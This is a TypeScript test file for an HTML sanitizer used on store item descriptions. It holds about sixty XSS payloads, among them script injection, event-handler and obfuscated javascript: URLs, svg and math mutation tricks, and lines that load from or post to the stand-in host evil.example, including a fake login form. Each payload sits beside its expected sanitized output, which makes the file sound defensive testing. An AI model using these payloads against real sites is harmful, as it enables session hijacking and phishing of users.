import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { sanitizeDescription } from "./sanitize-description.server.ts";

/** Hostile HTML, with what may be left of it. */
const vectors: readonly (readonly [html: string, left: string])[] = [
  ["<script>alert(1)</script>", ""],
  ["<SCRIPT SRC=//evil.example/x.js></SCRIPT>", ""],
  ["<scr<script>ipt>alert(1)</scr</script>ipt>", "ipt&gt;alert(1)ipt&gt;"],
  ["<script\u0000>alert(1)</script>", "alert(1)"],
  ["<script/x>alert(1)</script/x>", ""],
  ["<script>alert(1)", ""],
  ["<img src=x onerror=alert(1)>", ""],
  ["<img src=x onerror=alert(1)//", ""],
  ['<img """><script>alert(1)</script>">', '"&gt;'],
  ["<svg onload=alert(1)>", ""],
  ["<svg><script>alert(1)</script></svg>", ""],
  ["<svg><style><img src=x onerror=alert(1)></style></svg>", ""],
  [
    '<svg><a xlink:href="javascript:alert(1)"><text>go</text></a></svg>',
    '<a rel="nofollow noopener ugc">go</a>',
  ],
  [
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<table></table>",
  ],
  ['<math href="javascript:alert(1)">x</math>', "x"],
  ['<iframe src="javascript:alert(1)">inside</iframe>', ""],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', ""],
  ['<object data="javascript:alert(1)"></object>', ""],
  ['<embed src="javascript:alert(1)">', ""],
  ['<base href="https://evil.example/">', ""],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example">', ""],
  ['<link rel=stylesheet href="https://evil.example/x.css">', ""],
  ["<style>body{display:none}</style>", ""],
  ['<p style="position:fixed;inset:0">x</p>', "<p>x</p>"],
  ['<p class="button" id="main">x</p>', "<p>x</p>"],
  ["<p onclick=alert(1)>x</p>", "<p>x</p>"],
  ['<p onmouseover="alert(1)" data-link="">x</p>', "<p>x</p>"],
  ['<a href="javascript:alert(1)">x</a>', '<a rel="nofollow noopener ugc">x</a>'],
  ['<a href="JaVaScRiPt:alert(1)">x</a>', '<a rel="nofollow noopener ugc">x</a>'],
  ['<a href="java\tscript:alert(1)">x</a>', '<a rel="nofollow noopener ugc">x</a>'],
  ['<a href="java\nscript:alert(1)">x</a>', '<a rel="nofollow noopener ugc">x</a>'],
  ['<a href=" &#14; javascript:alert(1)">x</a>', '<a rel="nofollow noopener ugc">x</a>'],
  ['<a href="&#106;avascript:alert(1)">x</a>', '<a rel="nofollow noopener ugc">x</a>'],
  [
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a rel="nofollow noopener ugc">x</a>',
  ],
  ['<a href="javascript&colon;alert(1)">x</a>', '<a rel="nofollow noopener ugc">x</a>'],
  ['<a href="vbscript:msgbox(1)">x</a>', '<a rel="nofollow noopener ugc">x</a>'],
  ['<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a rel="nofollow noopener ugc">x</a>'],
  ['<a href="//evil.example">x</a>', '<a rel="nofollow noopener ugc">x</a>'],
  [
    '<a href="https://evil.example" target="_top" ping="https://evil.example">x</a>',
    '<a href="https://evil.example" rel="nofollow noopener ugc">x</a>',
  ],
  ['<form action="https://evil.example"><input name=password><button>Log in</button></form>', "Log in"],
  ["<textarea><script>alert(1)</script></textarea>", ""],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ""],
  ["<template><img src=x onerror=alert(1)></template>", ""],
  ["<title><img src=x onerror=alert(1)></title>", ""],
  ["<xmp><img src=x onerror=alert(1)></xmp>", ""],
  ["<video><source onerror=alert(1)></video>", ""],
  ["<audio src=x onerror=alert(1)>", ""],
  ["<details open ontoggle=alert(1)>x</details>", "x"],
  ["<body onload=alert(1)>x</body>", "x"],
  ["<!--<img src=x onerror=alert(1)>-->", ""],
  ["<!--><script>alert(1)</script>-->", "--&gt;"],
  ["<![CDATA[<script>alert(1)</script>]]>", ""],
  ['<?xml version="1.0"?><p>x</p>', "<p>x</p>"],
  ["<b <script>alert(1)</script>0", "<b>alert(1)0</b>"],
  ["<p title='\"><img src=x onerror=alert(1)>'>x</p>", "<p>x</p>"],
  ["<marquee onstart=alert(1)>x</marquee>", "x"],
  ["<input autofocus onfocus=alert(1)>", ""],
  ["<select><option>x</option></select>", ""],
];

describe("hostile HTML", () => {
  it("is known in at least forty ways", () => expect(vectors.length).toBeGreaterThanOrEqual(40));

  it.each(vectors)("[STORE-18] %j leaves nothing that runs, loads or looks like ours", (html, left) => {
    expect(sanitizeDescription(html)).toBe(left);
  });
});

describe("a description", () => {
  it("[STORE-18] keeps what running text needs", () => {
    const html =
      "<h3>Care</h3><p>Cold <em>hand</em> wash &amp; dry <strong>flat</strong>.<br />Twice.</p><ul><li>One</li></ul>" +
      "<table><tbody><tr><th>Size</th><td>50 × 70 in</td></tr></tbody></table>";
    expect(sanitizeDescription(html)).toBe(html);
  });

  it("turns large headings into small ones, and marks links as not ours", () => {
    expect(sanitizeDescription("<h1>Big</h1><h6>Small</h6>")).toBe("<h3>Big</h3><h4>Small</h4>");
    expect(sanitizeDescription('<a href="/business/7">Us</a>')).toBe(
      '<a href="/business/7" rel="nofollow noopener ugc">Us</a>',
    );
  });

  it("is cut where it is nested deeper than anybody writes", () => {
    const deep = sanitizeDescription(`${"<blockquote>".repeat(5000)}x`);
    expect(deep.match(/<blockquote>/g)?.length ?? 0).toBeLessThanOrEqual(20);
  });

  it("is the same after it was sanitized once more", () => {
    for (const [html] of vectors) {
      const once = sanitizeDescription(html);
      expect(sanitizeDescription(once)).toBe(once);
    }
    const pieces = fc.constantFrom(
      ...[
        "<p>",
        "</p>",
        "<a href='",
        "'>",
        "</a>",
        "<script>",
        "</script>",
        "<ul><li>",
        "&lt;",
        "&amp;",
        "<",
        ">",
      ],
      ...[
        '"',
        "'",
        "javascript:",
        "<svg>",
        "<!--",
        "-->",
        "<b>",
        "</b>",
        "x",
        "&#106;",
        " ",
        "<style>",
        "</style>",
      ],
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), (list) => {
        const once = sanitizeDescription(list.join(""));
        expect(sanitizeDescription(once)).toBe(once);
        expect(once).not.toMatch(/<script|<style|<svg|href="\s*javascript/i);
      }),
      { numRuns: 500 },
    );
  });
});
